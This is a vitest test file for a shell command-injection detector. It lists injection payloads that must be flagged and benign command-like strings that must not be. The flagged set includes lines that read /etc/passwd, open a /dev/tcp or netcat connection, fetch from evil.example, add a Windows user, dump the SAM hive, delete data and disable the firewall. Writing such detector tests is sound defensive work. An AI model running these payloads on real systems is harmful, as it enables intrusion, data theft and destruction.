// Values that run a command of their own, by the way they break out, and texts that have commands in them.
import { describe, expect, it } from 'vitest';
import {
  SHELL_ARGUMENTS_READ_MAX,
  SHELL_NAME_BYTES_MAX,
  SHELL_SEPARATORS_READ_MAX,
  SHELL_TEST_BYTES_MAX,
  SHELL_WRAPPERS_MAX,
} from '../../../../src/core/limits.ts';
import { Arguments, NUMBER, ROOTED } from '../../../../src/detect/shell/argument.ts';
import { detectShell } from '../../../../src/detect/shell/detect-shell.ts';
import { expectAllBy } from '../../../support/expect-all.ts';

const expectAll = expectAllBy(detectShell);

describe('attacks', () => {
  it.each<[string, readonly string[]]>([
    [
      'beside what looks like alternatives',
      [
        String.raw`x\d|cat /etc/passwd`,
        String.raw`x\d;id`,
        'string|id',
        'date|cat /etc/passwd',
        "a || 'ping' 10.0.0.1",
        '& ifconfig',
        'x $ifs;id',
      ],
    ],
    [
      'behind a separator',
      [
        '127.0.0.1;whoami',
        'x|id',
        'x && uname -a',
        'x || cat /etc/hosts',
        'x & ipconfig',
        '; sleep 5',
        'x|date',
        'amp;whoami',
        'amp;cat /etc/hosts',
        ';id;',
        'a|id|',
      ],
    ],
    [
      'with words and comparisons of the shell',
      [
        '127.0.0.1;if [ 3 -eq 3 ];then sleep 1;fi',
        'x|[ 6 -ne $y ]||echo z',
        'x&[ a == b ]',
        'x&&if cat /etc/hosts',
        'x;timeout 5 id',
        'x & timeout 5',
        'x;usleep 5000000',
        'x;expr length abcdef',
        'x|id#',
        "x';whoami#",
        ';get-help #',
        ';start-sleep -s 5',
      ],
    ],
    [
      'with substitutions and redirections within a word',
      [
        'x;echo ab$(id)cd',
        'x|echo ab`id`cd',
        'x;`python -c "print 1"`',
        'a\n&`python -c "print 1; print 2; print 3"`',
        'x\necho ab >/tmp/x.txt',
        'x\necho ab>/tmp/x.txt',
        'x;echo ab<',
        'x\x1aecho ab',
      ],
    ],
    [
      'with variables that nobody set',
      [
        ';$u cat /etc$u/hosts',
        ';$u/bin$u/cat$u $u/etc$u/hosts',
        'x;cat$u /etc/hosts',
        `;${'$u '.repeat(SHELL_WRAPPERS_MAX)}cat /etc/hosts`,
      ],
    ],
    ['on a line of its own', ['127.0.0.1\nid', '\nls -la', 'x\r\nuname -a\r\n', '\\nid\\n', ';id\\n']],
    [
      'substituted',
      ['$(id)', 'x$(sleep 5)', '`id`', 'a `curl http://x/`', '<(cat notes.txt)', 'x;`wget http://x'],
    ],
    [
      'into a filter that reads more than its input',
      [
        'all words | grep -r pass',
        'all words | grep --recursive pass',
        'all words | grep root /etc/passwd',
        'x | grep -o x',
        'all words | gr\\ep -o x',
        "all words | sed -n '1e id'",
      ],
    ],
    [
      'behind what only looks like the start of a script',
      [
        'while you wait; cat /etc/passwd',
        './x;id',
        '../../x|id',
        'run;id',
        '$x;id',
        '$(id)',
        'x=$(id)',
        'if x; id',
      ],
    ],
    ['out of quotes', ["'; id; '", '"; cat /etc/hosts #', "x');id;", "a'|whoami|'", "' ; w ; '"]],
    [
      'with a name that hides',
      [
        "x;w'h'oami",
        'x;c\\at notes',
        'x;/b?n/c?t notes',
        'x;ca$@t notes',
        'x;c${z}at /etc/hosts',
        'x;$a$b /etc/hosts',
      ],
    ],
    [
      'behind other commands',
      ['x; sudo -l', 'x; nohup nc 10.0.0.1 80', 'x; exec 5<>/dev/tcp/10.0.0.1/80', 'x;sudo nohup timeout id'],
    ],
    [
      'of Windows',
      [
        'x & dir c:\\',
        'x & net user eve pw /add',
        'x|reg query hklm\\sam',
        'x & type %systemroot%\\win.ini',
        'x; get-childitem env:',
        'x & rd /s /q c:\\data',
        'x & netsh firewall set opmode disable',
      ],
    ],
    ['after what only begins like a document', ['{"a":1};id', '[x];id']],
    ['with interpreters', ["x;python3 -c 'import os'", 'x|php -r "x"', 'x; node /tmp/x', 'x|perl']],
    [
      'with a long text in front, when they are sure',
      ['this is a nice host to look at; wget http://evil.example/x'],
    ],
  ])('%s', (_, values) => expectAll(values, true));
});

describe('what only has commands in it', () => {
  it.each<[string, readonly string[]]>([
    [
      'alternatives of expressions, types and values',
      [
        String.raw`tool-([\d.]+)-bin\.(7z|zip)`,
        String.raw`(pr(?:otected|ivate))\s+(?=def|get|set)`,
        String.raw`(^|\s)\*\S(.*?\S)?\*($|\W)`,
        'number | date',
        'array<string|set<string>|array<any>>',
        'date|date',
        'date&time',
        "={{ $json.body?.action || 'ping' }}",
      ],
    ],
    [
      'openings of scripts in settings',
      [
        'pushd $dir ; mv */* . ; popd',
        'if [ $(ps aux | grep -c meeting) -gt 0 ]; then x',
        '@cat $(list) | grep -e x',
        '} elseif ($(get-content "$dir/x.ini") -eq $null) {',
        `$env:mode='quiet'; start-process "$dir/setup.exe"`,
        '[environment]::getfolderpath("x")+"/*" | copy-item -destination "$dir"',
        `& "$dir/bash.exe" -c "cd '$x' && /opt/tool-*/run"`,
        "- `stop-process -name 'explorer'`",
        "\r\n/*eslint-env node*/\r\n\r\nconsole.log('bar');\r\n",
      ],
    ],
    [
      'prose',
      [
        'salt & pepper',
        'bread; more butter',
        'find & replace',
        'drag & sort',
        'cut | fold | wash',
        'q&a; get-together',
      ],
    ],
    [
      'lines of a stack trace',
      ['error: x\n    at https://cdn.example/a.js:1:2\n    at <anonymous>:1:1', 'x\n at /srv/a.js:1:2'],
    ],
    ['words that do nothing alone', ['type=index&page=1&init', 'dining|set|cut', '0d8f921f-57a4|read']],
    ['references that lost their sign', ['amp;id', 'amp;cat', 'amp;sort[0]']],
    [
      'code between words',
      [
        'i use `find . -name x | xargs -i{} cp {} ~/new/` but it breaks on blanks',
        'colorizing `cat` utility',
      ],
    ],
    [
      'net and other words',
      ['gross & net user numbers', 'yes; set the table', 'a | who is it', 'x; type of drive'],
    ],
    [
      'command lines',
      [
        'npm run build && rm -rf dist',
        'cat notes.txt | grep -v x',
        '$ ls -la; id',
        'webpack --watch | tee -a log',
        'gh version 2>&1 | grep -op x',
        '#run apt-get update && rm -rf /var/lib/apt/lists/*',
        '(& volta completions powershell) | invoke-expression',
        'else { & php (join-path $x "composer.phar") @args }',
      ],
    ],
    [
      'loops and conditions',
      [
        "until `curl -g 'http://x/' >& /tmp/out`; do echo sleep && sleep 1; done && cat /tmp/out",
        'until docker ps; do sleep 3; done; docker run --rm debian cat /etc/os-release',
        'if test -f x; then rm -rf /tmp/y; fi',
        'set -ex; curl -o /tmp/x http://x/',
        'rand=$((1 + random % 10)); echo $rand > /tmp/rand',
        'export $(cat ./.env | xargs) && serve --stage $stage',
      ],
    ],
    [
      'programs of the project',
      [
        '. /usr/local/sdk/init.sh && echo n | sdk version | grep -o [0-9]',
        '.github/run list $path | xargs -r rm -rf',
        './scripts/owners.sh | tee -a owners',
        'run apt-get update && rm -rf /var/lib/apt/lists/*',
        '@cscript x.vbs & del c:\\x',
      ],
    ],
    [
      'scripts of PowerShell',
      [
        '    $content -replace \'{{dir}}\', $dir | set-content -path "$dir\\x"',
        'move-item "$dir\\x-*" "$dir"; remove-item "$dir\\x-*"',
        '$releases = $(invoke-webrequest -headers $head $url).content | convertfrom-json',
        "    if($((get-item $_).basename) -eq 'x') { return }",
        ") -replace 'a', 'b' | set-content \"$dir\\x\"",
        '(a)$b | set-content c:\\x',
        'x | out-file -encoding ascii "$dir\\x"',
      ],
    ],
    [
      'words into a filter',
      [
        "helm version | grep -op 'v[0-9]+'",
        'conda list x$ | grep -op x',
        'list all | sort -u',
        'bin\\nvim.exe',
      ],
    ],
    ['scripts', ['npm ci\nnpm test\ncurl -s http://x\nls\n', 'a=$(cat x)\nb\n', '# title\n\n```ruby\nx\n']],
    [
      'logs',
      ['jun 1 10:00:00 kim sudo: a : tty=pts/0 ; pwd=/ ; command=/bin/ls', 'a\nb\nc\nd; cat /etc/hosts'],
    ],
    [
      'markdown',
      ['see the `id` of it', 'call `sleep 5` then go on with it', 'pass the `id` on, then `sleep 5` twice'],
    ],
    [
      'sentences with command lines between backticks, or with lines below',
      [
        'i clean up with `find . -name x | xargs rm -rf /tmp/x` but it breaks on names with blanks',
        'step 6 of 9: run apt-get update && wget -q http://x/y\nremoving intermediate container',
      ],
    ],
    ['agents', ['mozilla/5.0 (x11; u; linux i686; id; rv:1.9.2)', 'x (compatible; curl/8.1; php 8.2)']],
    [
      'documents, whose strings are asked by themselves',
      ['{"a":["x;id","b && wget http://x"]}', '["x",";id"]'],
    ],
    ['tools by their names alone', ['vitest run | tee test.log', 'envsubst < tpl > out && exec nginx -g x']],
    ['tags and paths', ['dining|set|blue', 'a&id=7', 'x;sudo', 'x; /not/a/program here', 'x; $5 off', '']],
  ])('%s', (_, values) => expectAll(values, false));
});

describe('bounds', () => {
  it('reads a comparison up to its longest', () => {
    const longest = SHELL_TEST_BYTES_MAX - '[  -eq 12345]'.length - 130;
    expect(detectShell(`x;[ ${'7'.repeat(longest)} -eq 12345]`)).toBe(true);
    expect(detectShell(`x;[ ${'7'.repeat(SHELL_TEST_BYTES_MAX)} -eq 12345]`)).toBe(false);
  });

  it('looks at the first arguments of a command', () => {
    const read = new Arguments();
    read.read(`${'x '.repeat(SHELL_ARGUMENTS_READ_MAX - 1)}/etc/hosts`, 0);
    expect(read.shapes & ROOTED).not.toBe(0);
    read.read(`${'x '.repeat(SHELL_ARGUMENTS_READ_MAX)}/etc/hosts`, 0);
    expect(read.shapes & ROOTED).toBe(0);
    read.read('5 x', 0);
    expect(read.shapes & NUMBER).toBe(0);
  });

  it('reads a name up to its longest', () => {
    expect(detectShell(`x;${'\\'.repeat(SHELL_NAME_BYTES_MAX - 8)}whoami`)).toBe(true);
    expect(detectShell(`x;${'\\'.repeat(SHELL_NAME_BYTES_MAX)}whoami`)).toBe(false);
  });

  it('looks through a few commands that run others', () => {
    expect(detectShell(`x;${'sudo '.repeat(SHELL_WRAPPERS_MAX)}id`)).toBe(true);
    expect(detectShell(`x;${'sudo '.repeat(SHELL_WRAPPERS_MAX + 1)}id`)).toBe(false);
  });

  it('looks behind as many separators', () => {
    expect(detectShell(`${';x'.repeat(SHELL_SEPARATORS_READ_MAX - 1)};id`)).toBe(true);
    expect(detectShell(`${';x'.repeat(SHELL_SEPARATORS_READ_MAX)};id`)).toBe(false);
  });
});
